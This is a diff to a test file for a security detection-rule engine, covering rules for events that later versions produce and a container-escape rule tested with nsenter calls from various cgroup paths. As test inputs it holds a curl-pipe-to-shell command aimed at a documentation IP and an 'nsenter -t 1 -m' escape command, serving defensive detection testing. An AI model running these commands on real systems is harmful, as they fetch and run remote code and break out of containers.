@@ -113,6 +113,11 @@ const scenarios: Record<string, { fires: [string, RuleEvent][]; quiet: RuleEvent
   },
 };
 
+const laterEvents: Readonly<Record<string, string>> = {
+  'module-load.yml': 'ModuleLoad',
+  'privilege-escalation.yml': 'PrivilegeChange',
+};
+
 it('has a scenario for each file', () => {
   expect(
     readdirSync(dir)
@@ -125,7 +130,13 @@ describe.each(Object.entries(scenarios))('%s', (name, { fires, quiet }) => {
   const path = new URL(name, dir);
   const rules = compile(loadConfig(path.pathname));
 
-  it('is clean', () => expect(checkConfig(readFileSync(path))).toEqual([]));
+  // Some rules are for events of later versions, and for recordings that have them. The file says so too.
+  it('is clean', () => {
+    const later = laterEvents[name];
+    const found = checkConfig(readFileSync(path)).map((d) => `${d.code}: ${d.message}`);
+    expect(found).toEqual(later ? [`not-produced: this version does not produce ${later}; its rules have no effect`] : []);
+    if (later) expect(readFileSync(path, 'utf8')).toContain(`# This version does not produce ${later}:`);
+  });
 
   it.each(fires)('fires with %s', (id, e) => {
     const { verdict, rules: names, ruleName } = rules.evaluate(e);
@@ -142,4 +153,14 @@ it('the starter configuration is clean and quiet on an ordinary day', () => {
   const logged = rules.evaluateAll(data.map((d) => ({ type: 'ProcessCreate', data: d }))).filter((v) => v.verdict === 'log');
   expect(logged).toEqual([]);
   expect(rules.evaluate(exec('/usr/bin/bash', 'bash -c curl http://198.51.100.7/x | sh'))).toMatchObject({ verdict: 'log' });
+  const nsenter = (path: string): RuleEvent => exec('/usr/bin/nsenter', 'nsenter -t 1 -m', { cgroup: { path } });
+  const hex = 'c0ffee'.repeat(10);
+  for (const path of [
+    `/system.slice/docker-${hex}.scope`,
+    `/docker/${hex}`,
+    `/kubepods.slice/kubepods-pod1.slice/cri-containerd-${hex}.scope`,
+  ])
+    expect(rules.evaluate(nsenter(path)).ruleName).toContain('T1611');
+  for (const path of ['/system.slice/docker.service', '/user.slice/user-0.slice/session-1.scope'])
+    expect(rules.evaluate(nsenter(path))).toMatchObject({ verdict: 'drop' });
 });
